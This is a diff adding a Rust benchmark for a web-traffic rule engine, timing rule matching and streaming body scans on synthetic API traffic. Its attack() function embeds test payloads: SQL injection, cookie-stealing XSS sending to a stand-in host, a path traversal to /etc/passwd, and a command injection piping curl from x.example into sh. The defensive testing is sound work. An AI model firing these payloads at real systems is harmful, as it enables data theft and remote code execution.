@@ -1,0 +1,229 @@
+//! Per-core cost of rule matching with the default ruleset (`rules/default`)
+//! on the realistic API mix of `benches/traffic.rs`, with one request in 32
+//! (about 3%) replaced by an attack, beside the no-rules parse figure from
+//! the same run; and streaming body-scan throughput (GB/s) over JSON text
+//! beside a plain copy of the same bytes.
+//!
+//! Before timing, every attack must make a rule hold, or the bench fails
+//! instead of printing a figure; hits on benign transactions are counted
+//! and printed (false positives of the default rules on this mix).
+//!
+//! Targets: inspection costs no more than half of parsing throughput
+//! (parse + inspect >= 0.5 x parse alone); body scanning >= 2 GB/s.
+//! Run: `benches/rules.sh`, or `cargo bench --bench rules`
+//! (`RULES_SECS`, default 2).
+
+#[path = "traffic.rs"]
+mod traffic;
+
+use std::hint::black_box;
+use std::net::{IpAddr, Ipv4Addr};
+use std::path::PathBuf;
+use std::sync::Arc;
+
+use palisade_dataplane::engine::{Matcher, Snapshot};
+use palisade_dataplane::flow::Direction;
+use palisade_dataplane::http::{HttpConfig, HttpConnection, HttpObserver, Transaction};
+use traffic::{measure, parse_all, Conn, SEGMENT};
+
+#[global_allocator]
+static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;
+
+/// One request in this many is an attack.
+const ATTACK_EVERY: usize = 32;
+/// Bytes of JSON text the body-scan figure streams.
+const SCAN_BYTES: usize = 32 << 20;
+/// Bytes per body piece handed to the stream (what a few segments carry).
+const PIECE: usize = 16 << 10;
+
+const CLIENT: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7));
+
+fn main() {
+    let secs = std::env::var("RULES_SECS")
+        .ok()
+        .and_then(|v| v.parse::<f64>().ok())
+        .unwrap_or(2.0);
+    let mut traffic = traffic::traffic();
+    let attacks = inject_attacks(&mut traffic);
+    let txs = traffic.iter().map(|c| c.exchanges.len()).sum::<usize>() as f64;
+    let snapshot = Arc::new(Snapshot::from_files(&default_rules()).expect("default rules"));
+    let mut matcher = Matcher::new(Arc::clone(&snapshot)).expect("scratch");
+
+    let (hit_attacks, false_positives) = check(&traffic, &mut matcher);
+    assert_eq!(hit_attacks, attacks, "every attack must make a rule hold");
+    println!(
+        "rules: {} rules, {attacks} attacks all detected, {false_positives} benign transactions hit",
+        snapshot.rule_count()
+    );
+
+    let parse = measure(secs, || parse_all(&traffic)) * txs;
+    let inspected = measure(secs, || {
+        black_box(inspect_all(&traffic, &mut matcher));
+    }) * txs;
+    let ratio = inspected / parse;
+    let verdict = if ratio >= 0.5 { "met" } else { "MISSED" };
+    println!("parse only: {parse:.0} tx/s; parse + default rules: {inspected:.0} tx/s ({ratio:.2}); target >= 0.5 {verdict}");
+
+    let (scan, copy) = scan_figures(&mut matcher, secs);
+    let verdict = if scan >= 2.0 { "met" } else { "MISSED" };
+    println!("body scan (streaming, default rules): {scan:.2} GB/s; copy of the same bytes: {copy:.2} GB/s; target >= 2 GB/s {verdict}");
+    println!();
+    println!(
+        "| HTTP/1.x parsing + default rules ({} rules, 3% attacks), 1 core | {:.0} ktx/s | parse only {:.0} ktx/s | {ratio:.2} |",
+        snapshot.rule_count(),
+        inspected / 1e3,
+        parse / 1e3
+    );
+    println!(
+        "| response body scan, streaming, default rules, 1 core | {scan:.2} GB/s | memory copy {copy:.2} GB/s | {:.2} |",
+        scan / copy
+    );
+}
+
+fn default_rules() -> Vec<PathBuf> {
+    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules/default");
+    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
+        .expect("rules/default")
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
+        .collect();
+    files.sort();
+    files
+}
+
+/// Attack requests, one per class the default rules cover.
+fn attack(n: usize) -> Vec<u8> {
+    let json =
+        br#"{"comment":"<script>document.location='//x.example/'+document.cookie</script>"}"#;
+    match n % 4 {
+        0 => traffic::request(
+            "GET",
+            "/api/v1/products?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
+            None,
+        ),
+        1 => traffic::request("POST", "/api/v1/reviews", Some(json)),
+        2 => traffic::request("GET", "/api/v1/files?name=../../../../etc/passwd", None),
+        _ => traffic::request(
+            "GET",
+            "/api/v1/ping?host=127.0.0.1;curl%20http://x.example/s|sh",
+            None,
+        ),
+    }
+}
+
+/// Replaces every [`ATTACK_EVERY`]-th request with an attack; returns how
+/// many.
+fn inject_attacks(traffic: &mut [Conn]) -> usize {
+    let mut n = 0;
+    for (i, ex) in traffic
+        .iter_mut()
+        .flat_map(|c| c.exchanges.iter_mut())
+        .enumerate()
+    {
+        if i % ATTACK_EVERY == ATTACK_EVERY - 1 {
+            ex.0 = attack(n);
+            n += 1;
+        }
+    }
+    n
+}
+
+/// Inspects each finished transaction; counts those with a hit.
+struct Inspect<'a> {
+    matcher: &'a mut Matcher,
+    hits: Vec<bool>,
+}
+
+impl HttpObserver for Inspect<'_> {
+    fn transaction(&mut self, tx: Transaction) {
+        let hits = self.matcher.inspect_transaction(&tx, CLIENT);
+        self.hits.push(!hits.is_empty());
+    }
+}
+
+/// Parses and inspects everything; per transaction, whether a rule held.
+fn inspect_all(traffic: &[Conn], matcher: &mut Matcher) -> Vec<bool> {
+    let config = HttpConfig::default();
+    let mut obs = Inspect {
+        matcher,
+        hits: Vec::new(),
+    };
+    for conn in traffic {
+        let mut http = HttpConnection::new(&config);
+        for (i, (req, resp)) in conn.exchanges.iter().enumerate() {
+            let now = i as u64 * 1_000;
+            for seg in req.chunks(SEGMENT) {
+                http.data(Direction::ToResponder, seg, now, &mut obs);
+            }
+            for seg in resp.chunks(SEGMENT) {
+                http.data(Direction::ToInitiator, seg, now + 500, &mut obs);
+            }
+        }
+        http.close(1 << 40, &mut obs);
+    }
+    obs.hits
+}
+
+/// (attacks with a hit, benign transactions with a hit).
+fn check(traffic: &[Conn], matcher: &mut Matcher) -> (usize, usize) {
+    let hits = inspect_all(traffic, matcher);
+    let attack = |i: usize| i % ATTACK_EVERY == ATTACK_EVERY - 1;
+    let caught = hits
+        .iter()
+        .enumerate()
+        .filter(|(i, h)| attack(*i) && **h)
+        .count();
+    let benign = hits
+        .iter()
+        .enumerate()
+        .filter(|(i, h)| !attack(*i) && **h)
+        .count();
+    (caught, benign)
+}
+
+/// GB/s of the streaming response-body scan and of copying the same bytes.
+fn scan_figures(matcher: &mut Matcher, secs: f64) -> (f64, f64) {
+    let mut rng = traffic::Rng(0x5ca1_ab1e);
+    let mut body = Vec::with_capacity(SCAN_BYTES + 4096);
+    while body.len() < SCAN_BYTES {
+        body.extend_from_slice(&traffic::json_object(&mut rng, 1500, 500));
+        body.push(b'\n');
+    }
+    let tx = sample_transaction();
+    let scan = measure(secs, || {
+        let mut insp = matcher.start();
+        let mut stream = matcher.body_stream(&insp, Direction::ToInitiator);
+        for piece in body.chunks(PIECE) {
+            stream.feed(matcher, piece);
+        }
+        black_box(stream.finish(matcher, &mut insp, &tx, CLIENT));
+    });
+    let mut copy_to = vec![0u8; body.len()];
+    let copy = measure(secs, || {
+        copy_to.copy_from_slice(&body);
+        black_box(&copy_to);
+    });
+    let gb = body.len() as f64 / 1e9;
+    (scan * gb, copy * gb)
+}
+
+/// A small finished transaction for the stream's final evaluation.
+fn sample_transaction() -> Transaction {
+    #[derive(Default)]
+    struct Last(Option<Transaction>);
+    impl HttpObserver for Last {
+        fn transaction(&mut self, tx: Transaction) {
+            self.0 = Some(tx);
+        }
+    }
+    let mut http = HttpConnection::new(&HttpConfig::default());
+    let mut last = Last::default();
+    let request = b"GET /api/v1/export HTTP/1.1\r\nHost: api.example.com\r\n\r\n";
+    let response =
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}";
+    http.data(Direction::ToResponder, request, 1, &mut last);
+    http.data(Direction::ToInitiator, response, 2, &mut last);
+    http.close(3, &mut last);
+    last.0.expect("a transaction")
+}
